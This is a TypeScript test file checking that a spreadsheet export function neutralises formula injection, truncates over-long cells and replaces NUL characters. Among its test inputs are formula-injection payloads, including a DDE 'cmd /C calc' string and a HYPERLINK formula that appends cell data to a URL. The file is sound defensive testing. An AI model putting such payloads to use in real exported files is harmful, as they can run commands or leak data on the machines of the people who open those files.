import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { LONGEST_CELL, toCell } from "../../src/export/cell.ts";
import { nastyText } from "./nasty.ts";

/** Generous: what takes longer than this stalls a whole export. */
const MOST_MILLISECONDS = 1_000;

/** What a reader that wants the text as it was written does to a cell. */
const withoutOurs = (cell: string) =>
  /^'+(?:[\t\r\n]|[\s\p{C}]*[=+\-@＝＋－＠﹦﹢﹣﹫−])/u.test(cell) ? cell.slice(1) : cell;

describe("nothing that a guest writes becomes a formula", () => {
  test.each([
    ["=", '=HYPERLINK("https://example.com/?"&A1,"click")'],
    ["+", "+1+1"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1)"],
    ["a tab", "\t=1"],
    ["a tab alone", "\tx"],
    ["a carriage return", "\r=1"],
    ["a line feed", "\n=1"],
    ["blanks before it", "  =1"],
    ["a non-breaking space before it", "\u00a0=1"],
    ["an ideographic space before it", "\u3000=1"],
    ["a zero-width space before it", "\u200b=1"],
    ["a byte order mark before it", "\ufeff=1"],
    ["a control character before it", "\u0001=1"],
    ["a wide =", "＝1"],
    ["a wide +", "＋1"],
    ["a wide -", "－1"],
    ["a wide @", "＠SUM(1)"],
    ["a small =", "﹦1"],
    ["a true minus", "−1"],
  ])("%s", (_what, text) => {
    expect(toCell(text)).toEqual({ text: `'${text}`, exact: true });
  });

  test("not even behind an apostrophe of its own, which some readers swallow", () => {
    expect(toCell("'=1").text).toBe("''=1");
  });
});

test("a telephone number stays readable, and a number is not made of it", () => {
  expect(toCell("+49 30 123456").text).toBe("'+49 30 123456");
});

test.each(["10 - 5 = 5", "a=b", "'tis", "–", "…", "", " ", "mail@example.com", "🏖️=", "(=1)"])(
  "%j is left alone",
  (text) => {
    expect(toCell(text)).toEqual({ text, exact: true });
  },
);

test("the apostrophe can be taken away again, whatever the text", () => {
  fc.assert(
    fc.property(nastyText(), (text) => {
      expect(withoutOurs(toCell(text).text)).toBe(text.toWellFormed().replaceAll("\0", "\ufffd"));
    }),
  );
});

describe("a text too long for a spreadsheet's cell is cut, and says so", () => {
  test("the longest that fits is left whole", () => {
    const text = "x".repeat(LONGEST_CELL);

    expect(toCell(text)).toEqual({ text, exact: true });
  });

  test("one character more does not fit", () => {
    const { text, exact } = toCell("x".repeat(LONGEST_CELL + 1));

    expect({ length: text.length, end: text.slice(-9), exact }).toEqual({
      length: LONGEST_CELL,
      end: "x [… cut]",
      exact: false,
    });
  });

  test("the apostrophe counts", () => {
    const { text, exact } = toCell(`=${"x".repeat(LONGEST_CELL - 1)}`);

    expect({ length: text.length, start: text.slice(0, 2), exact }).toEqual({
      length: LONGEST_CELL,
      start: "'=",
      exact: false,
    });
  });

  test.each(["", "x"])("no character is halved (%j)", (start) => {
    const { text } = toCell(`${start}${"🏖".repeat(LONGEST_CELL)}`);

    expect(text.isWellFormed()).toBe(true);
    expect(LONGEST_CELL - text.length).toBeLessThanOrEqual(1);
  });
});

test("a NUL character, at which readers stop, is replaced, and that is told", () => {
  expect(toCell("a\0b")).toEqual({ text: "a\ufffdb", exact: false });
});

test.each([
  ["blanks", " "],
  ["apostrophes", "'"],
  ["invisible characters", "\u200b"],
  ["signs", "="],
])("a megabyte of %s takes no time", (_what, piece) => {
  const start = performance.now();

  toCell(piece.repeat(1_000_000));

  expect(performance.now() - start).toBeLessThan(MOST_MILLISECONDS);
});
